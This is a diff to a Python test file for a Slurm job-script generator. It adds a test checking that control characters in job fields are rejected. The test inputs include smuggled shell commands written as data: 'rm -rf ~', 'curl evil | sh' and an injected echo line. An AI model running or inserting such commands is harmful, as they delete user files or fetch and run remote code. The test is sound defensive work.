@@ -128,6 +128,15 @@ def test_gpu_lines_are_left_out_on_cpu_clusters_and_bad_values_are_refused():
         SlurmJob(token_dir="/shared/a,b")
 
 
+@pytest.mark.parametrize("field, value", [
+    ("job_name", "areal\nrm -rf ~"), ("time_limit", "01:00:00\ncurl evil | sh"), ("log_dir", "logs\rx"),
+    ("extra_sbatch", ["#SBATCH --partition=gpu\necho injected"]), ("overrides", ["seed=1\u001b[2J"]),
+])
+def test_a_control_character_in_any_field_is_refused_before_it_reaches_the_script(field, value):
+    with pytest.raises(ValueError, match=f"{field} must not contain control characters"):
+        SlurmJob(**{field: value})
+
+
 def test_areal_slurm_writes_the_script(tmp_path, monkeypatch):
     monkeypatch.chdir(tmp_path)
     assert main(["slurm", "--nodes", "2", "--script", "s.sbatch", "experiment=arith_tiny"]) == 0
